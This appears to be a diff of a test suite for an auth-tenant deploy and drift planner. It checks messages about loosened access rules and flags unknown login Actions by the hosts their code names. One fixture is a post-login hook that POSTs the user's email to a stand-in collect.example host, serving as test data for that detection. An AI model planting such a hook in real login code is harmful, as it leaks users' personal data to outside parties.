@@ -1,4 +1,5 @@
 // @module-tag long
+import { createHash } from 'node:crypto';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { recordOf } from '../../scripts/base/json-values.ts';
 import { buildBundles } from '../../scripts/bundle/build-bundles.ts';
@@ -63,8 +64,10 @@ const withRule =
     ),
   });
 
-const withMailer = (tenant: FakeTenant): FakeTenant => {
-  const content = { code: 'exports.onExecutePostLogin = async () => {};', runtime: 'node22', secrets: [] };
+const MAILER = 'exports.onExecutePostLogin = async () => {};';
+
+const withMailer = (tenant: FakeTenant, code = MAILER): FakeTenant => {
+  const content = { code, runtime: 'node22', secrets: [] };
   return {
     ...tenant,
     actions: [...tenant.actions, { id: 'id-mailer', name: 'mailer', ...content, deployed_version: content }],
@@ -90,12 +93,26 @@ describe('the drift of a tenant', () => {
     ['a rule that only reports', 'mode=report require=verified'],
   ])('says first who gets in by %s at the tenant, and not that a deploy would repair it', async (_, rule) => {
     const plan = await planOf('drift', { tenant: withRule(rule) });
-    expect(secondLine(plan)).toMatch(
-      /The tenant is weaker than tenant\.yaml: at Didit Sample Application, .*verified.* get in\.$/,
+    expect(secondLine(plan)).toBe(
+      'The tenant is weaker than tenant.yaml: at Didit Sample Application, everybody gets in.',
     );
     expect(codesOf(plan)).toContain('rules_loosened');
     // The deploy that repairs it loosens nothing.
     expect(codesOf(await planOf('tenant', { tenant: withRule(rule) }))).not.toContain('rules_loosened');
+  });
+
+  test.each([
+    ['nobody is named where some of many get in', 'require=email_verified', /, \d+ people get in\.$/],
+    ['few are named', 'require=verified', /, [a-z-]+(?:, [a-z-]+){0,2} gets? in\.$/],
+  ])('says in few words who gets in: %s', async (_, rule, words) => {
+    const asked: Edit = [
+      'didit_policy: require=verified\n',
+      rule === 'require=verified'
+        ? 'didit_policy: require=verified,age_over_18\n'
+        : 'didit_policy: require=verified,age_over_18,email_verified\n',
+    ];
+    const plan = await planOf('drift', { edits: [asked], tenant: withRule(rule) });
+    expect(secondLine(plan)).toMatch(words);
   });
 
   test('of a rule that is stricter at the tenant is no weakness, and nothing is sent', async () => {
@@ -121,7 +138,7 @@ describe('the drift of a tenant', () => {
       organizations: [{ name: 'acme', metadata: { didit_policy: 'mode=off' }, connections: ['didit'] }],
     });
     expect(secondLine(await planOf('drift', { edits, tenant }))).toMatch(
-      /The tenant is weaker than tenant\.yaml: at Didit Sample Application in organization acme, .* get in\.$/,
+      /The tenant is weaker than tenant\.yaml: at Didit Sample Application in organization acme, everybody gets in\.$/,
     );
   });
 
@@ -160,6 +177,55 @@ describe('an Action of somebody else that nobody here knows', () => {
       expect(renderPlan(plan, 'markdown', false).text).toContain('other_action');
     },
   );
+
+  test.each<[string, string, readonly string[] | null, string]>([
+    [
+      'texts that are put together',
+      `const host = 'mail.' + 'example.net';
+       exports.onExecutePostLogin = async (event) => {
+         await fetch(\`https://\${event.client.client_id}.collect.example/x\`, { method: 'POST', body: event.user.email });
+         await require('https').get({ hostname: 'api.example.org' });
+         return host;
+       };`,
+      ['*.collect.example', 'api.example.org', 'example.net', 'mail.example.net'],
+      '; its code names *.collect.example, api.example.org, example.net, mail.example.net',
+    ],
+    [
+      'many hosts',
+      `${MAILER}\n${[1, 2, 3, 4, 5, 6, 7].map((n) => `fetch('https://h${n}.example/');`).join('\n')}`,
+      [1, 2, 3, 4, 5, 6, 7].map((n) => `h${n}.example`),
+      '; its code names h1.example, h2.example, h3.example, h4.example, h5.example and 2 more hosts',
+    ],
+    ['code that names none', MAILER, [], 'tenant.yaml does not name it'],
+    ['code that cannot be read', 'exports.onExecutePostLogin = async (', null, '; its code cannot be read'],
+  ])('has the hosts that its code names beside it, in plan and drift: %s', async (_, code, hosts, words) => {
+    const flow = known(await planOf('tenant', {}));
+    const mailer = (tenant: FakeTenant): FakeTenant => withMailer(tenant, code);
+    const before = [...flow, { action: 'mailer', sha256: 'of other code' }];
+    for (const kind of ['tenant', 'drift'] as const) {
+      const [found] = (await planOf(kind, { tenant: mailer, known: flow })).otherActions;
+      expect([found?.what, found?.hosts]).toEqual(['new', hosts]);
+      const plan = await planOf(kind, { tenant: mailer, known: before });
+      expect(plan.otherActions.map(({ what, hosts: named }) => [what, named])).toEqual([['changed', hosts]]);
+      for (const format of ['terminal', 'markdown'] as const)
+        expect(renderPlan(plan, format).text).toMatch(
+          new RegExp(
+            `Action mailer: it runs other code .*deploy from here${hosts?.length === 0 ? '`?$' : words.replace(/[.*]/g, '\\$&')}`,
+            'm',
+          ),
+        );
+    }
+    // One that only moved runs the code that it ran.
+    const moved = await planOf('drift', {
+      tenant: (tenant) => {
+        const { bindings, ...rest } = mailer(tenant);
+        return { ...rest, bindings: [...bindings.slice(-1), ...bindings.slice(0, -1)] };
+      },
+      known: [...flow, { action: 'mailer', sha256: createHash('sha256').update(code).digest('hex') }],
+    });
+    expect(moved.otherActions).toMatchObject([{ action: 'mailer', what: 'moved' }]);
+    expect(moved.otherActions[0]).not.toHaveProperty('hosts');
+  });
 
   test('is found as a module on one of ours, which the code may load and no file knows of', async () => {
     const tenant = (deployed: FakeTenant): FakeTenant => ({
@@ -208,7 +274,7 @@ describe('a profile script that gives other user ids', () => {
     const script = (code: string): string => code.replace(/user_id: /, "user_id: 'v2-' + ");
     const plan = await planOf('tenant', { script });
     expect(securityChanges(plan)[0]).toMatchObject({ code: 'account_changed', where: 'connection didit' });
-    expect(securityChanges(plan)[0]?.because).toContain('adult');
+    expect(securityChanges(plan)[0]?.because).toMatch(/^the user id of everybody\b/);
   });
 
   test('is not one that only sends less', async () => {
